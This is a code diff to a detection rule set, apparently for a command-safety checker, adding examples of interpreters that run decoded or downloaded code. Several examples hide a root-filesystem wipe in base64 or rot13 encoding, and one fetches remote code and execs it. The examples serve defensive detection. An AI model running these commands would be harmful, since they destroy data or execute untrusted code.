@@ -57,8 +57,12 @@ final class StructuralRules {
                         .says("an interpreter evaluates decoded or downloaded code")
                         .examples("python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
                                 "php -r 'eval(base64_decode(\"ZWNobyAxOw==\"));'",
-                                "python -c \"exec(__import__('urllib.request').request.urlopen('http://x').read())\"")
-                        .counter("python3 -c 'exec(\"print(1)\")'").build(),
+                                "python -c \"exec(__import__('urllib.request').request.urlopen('http://x').read())\"",
+                                "perl -MMIME::Base64 -e 'system(decode_base64(\"cm0gLXJmIC8=\"))'",
+                                "python3 -c 'import os,codecs;os.system(codecs.decode(\"ez -es /\", \"rot13\"))'",
+                                "node -e 'require(\"child_process\").execSync(Buffer.from(\"bHM=\",\"base64\").toString())'")
+                        .counter("python3 -c 'exec(\"print(1)\")'", "python3 -c 'import os; os.system(\"base64 -d in.b64 > out\")'",
+                                "python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'").build(),
                 Rule.builder(Structural.FOREIGN_DYNAMIC).strictOnly().structural()
                         .says("an interpreter runs a shell command built entirely at run time")
                         .examples("python -c 'import os,sys; os.system(sys.argv[1])'").counter("python -c 'import os; os.system(\"ls\")'").build(),
